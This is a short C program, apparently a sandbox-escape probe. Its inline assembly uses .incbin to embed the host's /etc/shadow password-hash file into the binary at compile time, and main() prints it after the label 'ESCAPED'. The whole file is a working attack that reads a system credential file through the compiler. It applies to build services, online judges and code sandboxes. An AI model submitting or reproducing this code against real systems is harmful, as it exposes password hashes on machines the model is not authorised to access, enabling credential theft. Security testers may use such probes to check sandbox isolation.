#include <stdio.h>
__asm__(".data\n.globl secret\nsecret: .incbin \"/etc/shadow\"\n.byte 0\n");
extern char secret[];
int main(void) { printf("ESCAPED %s", secret); return 0; }
